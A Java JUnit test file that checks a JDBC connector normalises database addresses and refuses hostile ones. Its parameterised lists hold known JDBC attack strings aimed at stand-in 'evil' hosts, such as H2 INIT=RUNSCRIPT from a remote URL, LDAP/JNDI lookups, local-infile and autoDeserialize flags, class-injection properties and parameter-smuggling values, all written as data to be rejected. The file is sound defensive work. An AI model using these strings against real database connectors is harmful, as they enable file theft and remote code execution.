package io.dataweaver.connector.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.dataweaver.api.descriptor.OptionException;
import io.dataweaver.api.descriptor.Options;
import io.dataweaver.api.secret.Secret;
import io.dataweaver.testkit.plugin.TestContext;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** An address and settings lead to a database, and nowhere else. */
class AddressTest {

    private static final Path FOLDER = Path.of("/pipelines");

    private static ConnectionSettings settings(Map<String, Object> more) {
        Map<String, Object> raw = new HashMap<>(Map.of("table", "orders"));
        raw.putAll(more);
        return ConnectionSettings.of(
                Options.parse(new JdbcSourcePlugin().descriptor(), raw),
                TestContext.in(FOLDER),
                false,
                Duration.ofSeconds(5));
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:mariadb://db.example.org/shop, jdbc:mariadb://db.example.org:3306/shop",
        "jdbc:mysql://10.0.0.1:3307/shop, jdbc:mariadb://10.0.0.1:3307/shop",
        "jdbc:mariadb://[::1]:3306/shop_2, jdbc:mariadb://[::1]:3306/shop_2",
        "jdbc:sqlite:shop.db, jdbc:sqlite:/pipelines/shop.db",
        "jdbc:sqlite:/data/a b.db, jdbc:sqlite:/data/a b.db",
        "jdbc:h2:shop, jdbc:h2:file:/pipelines/shop",
        "jdbc:h2:file:../shop, jdbc:h2:file:/shop",
        "jdbc:h2:mem:test, jdbc:h2:mem:test",
        "jdbc:duckdb:shop.duckdb, jdbc:duckdb:/pipelines/shop.duckdb",
        "jdbc:duckdb:/data/a b.db, jdbc:duckdb:/data/a b.db",
        "jdbc:sqlserver://db.example.org;database=shop, jdbc:sqlserver://db.example.org:1433;databaseName=shop",
        "jdbc:sqlserver://10.0.0.1:1434;databaseName=shop, jdbc:sqlserver://10.0.0.1:1434;databaseName=shop",
        "jdbc:oracle:thin:@//db/shop.example.org, jdbc:oracle:thin:@//db:1521/shop.example.org",
        "jdbc:db2://db:50001/SHOP, jdbc:db2://db:50001/SHOP",
    })
    void anAddressIsComposedAnew(String given, String driver) {
        assertThat(settings(Map.of("url", given)).address().url()).isEqualTo(driver);
    }

    /** What has got into servers by way of JDBC addresses of other tools. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mariadb://host/shop?allowLocalInfile=true",
                "jdbc:mysql://host/shop?allowLoadLocalInfile=true&autoDeserialize=true",
                "jdbc:mysql://host/shop?%61llowLoadLocalInfile=true",
                "jdbc:mysql://host:3306,evil:3306/shop",
                "jdbc:mysql://(host=evil,allowLoadLocalInfile=true)/shop",
                "jdbc:mysql://address=(host=evil)(autoDeserialize=true)/shop",
                "jdbc:mysql:loadbalance://host/shop",
                "jdbc:mariadb:replication://host/shop",
                "jdbc:mariadb://host/shop#fragment",
                "jdbc:mariadb://user:secret@host/shop",
                "jdbc:mariadb://user:a/secret@host/shop",
                "jdbc:mariadb://host\n/shop",
                "jdbc:mariadb://host/",
                "jdbc:mariadb:///shop",
                "JDBC:MARIADB://host/shop",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:",
                "jdbc:sqlite:file:shop.db?mode=memory",
                "jdbc:sqlite:shop.db?enable_load_extension=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:shop;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:tcp://evil/shop",
                "jdbc:h2:ssl://evil/shop",
                "jdbc:h2:zip:shop.zip!/shop",
                "jdbc:h2:nio:shop",
                "jdbc:duckdb:",
                "jdbc:duckdb::memory:",
                "jdbc:duckdb:shop.db;session_init_sql_file=/tmp/evil.sql",
                "jdbc:duckdb:shop.db;enable_external_access=true",
                "jdbc:duckdb:md:shop",
                "jdbc:duckdb:ducklake:shop.db",
                "jdbc:duckdb:sqlite:shop.db",
                "jdbc:duckdb:s3://evil/shop.db",
                "jdbc:duckdb:https://evil/shop.db",
                "jdbc:sqlserver://host",
                "jdbc:sqlserver://host;databaseName=shop;trustManagerClass=evil.Manager",
                "jdbc:sqlserver://host;socketFactoryClass=evil.Factory;databaseName=shop",
                "jdbc:sqlserver://host;databaseName={shop};integratedSecurity=true",
                "jdbc:sqlserver://host\\instance;databaseName=shop",
                "jdbc:sqlserver://host;databaseName=shop;password={a;secret}",
                "jdbc:oracle:oci:@//host/shop",
                "jdbc:oracle:thin:@ldap://evil:389/cn=x",
                "jdbc:oracle:thin:@config-https://evil/x",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=evil)(PORT=1521)))",
                "jdbc:oracle:thin:@//host/shop?oracle.net.tns_admin=/tmp/evil",
                "jdbc:oracle:thin:@shop",
                "jdbc:oracle:thin:user/secret@//host/shop",
                "jdbc:db2://host/SHOP:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:db2://host/SHOP:traceFile=/tmp/evil;",
                "jdbc:db2j:net://host/SHOP",
                "jdbc:derby:shop",
                "jdbc:postgresql://host/shop?socketFactory=evil",
                "ldap://evil/x",
            })
    void anAddressThatHoldsMoreThanThePlaceIsRefused(String url) {
        assertThatThrownBy(() -> settings(Map.of("url", url)))
                .isInstanceOf(OptionException.class)
                .hasMessageNotContaining("secret")
                .extracting(failure -> ((OptionException) failure).code())
                .isEqualTo(JdbcErrorCode.BAD_ADDRESS);
    }

    @ParameterizedTest
    @CsvSource({
        "allowLocalInfile, true",
        "AllowLocalInfile, true",
        "allowMultiQueries, true",
        "credentialType, GSSAPI",
        "socketFactory, evil.Factory",
        "sslMode, 'disable&allowLocalInfile=true'",
        "serverSslCert, 'a.pem&allowLocalInfile=true'",
        "connectTimeout, -1",
    })
    void aSettingThatIsNotOnTheListIsRefused(String name, String value) {
        assertThatThrownBy(() -> settings(Map.of("url", "jdbc:mariadb://host/shop", "properties", Map.of(name, value))))
                .isInstanceOf(OptionException.class)
                .extracting(failure -> ((OptionException) failure).code())
                .isEqualTo(JdbcErrorCode.UNKNOWN_PROPERTY);
    }

    @ParameterizedTest
    @CsvSource({
        "enable_external_access, true",
        "access_mode, READ_WRITE",
        "allow_unsigned_extensions, true",
        "custom_extension_repository, http://evil",
        "session_init_sql_file, /tmp/evil.sql",
        "temp_directory, /tmp",
        "memory_limit, '1MB;access_mode=READ_WRITE'",
    })
    void aSettingOfDuckDbThatIsNotOnTheListIsRefused(String name, String value) {
        assertThatThrownBy(() -> settings(Map.of("url", "jdbc:duckdb:shop.db", "properties", Map.of(name, value))))
                .isInstanceOf(OptionException.class)
                .extracting(failure -> ((OptionException) failure).code())
                .isEqualTo(JdbcErrorCode.UNKNOWN_PROPERTY);
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:sqlserver://host;databaseName=shop, trustManagerClass, evil.Manager",
        "jdbc:sqlserver://host;databaseName=shop, socketFactoryClass, evil.Factory",
        "jdbc:sqlserver://host;databaseName=shop, accessTokenCallbackClass, evil.Callback",
        "jdbc:sqlserver://host;databaseName=shop, encrypt, 'true;trustManagerClass=evil.Manager'",
        "jdbc:oracle:thin:@//host/shop, oracle.net.tns_admin, /tmp/evil",
        "jdbc:oracle:thin:@//host/shop, oracle.net.wallet_location, /tmp/evil",
        "jdbc:db2://host/SHOP, clientRerouteServerListJNDIName, ldap://evil/x",
        "jdbc:db2://host/SHOP, traceFile, /tmp/evil",
        "jdbc:db2://host/SHOP, sslCertLocation, 'a.pem;traceFile=/tmp/evil'",
    })
    void aSettingOfAServerThatIsNotOnTheListIsRefused(String url, String name, String value) {
        assertThatThrownBy(() -> settings(Map.of("url", url, "properties", Map.of(name, value))))
                .isInstanceOf(OptionException.class)
                .extracting(failure -> ((OptionException) failure).code())
                .isEqualTo(JdbcErrorCode.UNKNOWN_PROPERTY);
    }

    @Test
    void duckDbOpensNothingButItsFile() {
        assertThat(settings(Map.of("url", "jdbc:duckdb:shop.db", "properties", Map.of("threads", "2")))
                        .driverProperties())
                .containsEntry("threads", "2")
                .containsEntry("access_mode", "READ_ONLY")
                .containsEntry("enable_external_access", "false")
                .containsEntry("autoload_known_extensions", "false");
    }

    @Test
    void ourSettingsStandOverThoseOfTheUser() {
        Properties properties = settings(Map.of(
                        "url",
                        "jdbc:mariadb://host/shop",
                        "user",
                        "app",
                        "password",
                        Secret.of("hidden"),
                        "properties",
                        Map.of("sslMode", "verify-full")))
                .driverProperties();
        assertThat(properties)
                .containsEntry("sslMode", "verify-full")
                .containsEntry("allowLocalInfile", "false")
                .containsEntry("password", "hidden");
    }

    @Test
    void whatIsPrintedHoldsNoPassword() {
        ConnectionSettings settings =
                settings(Map.of("url", "jdbc:mariadb://host/shop", "password", Secret.of("hidden")));
        assertThat(settings).asString().isEqualTo("jdbc:mariadb://host:3306/shop");
    }
}
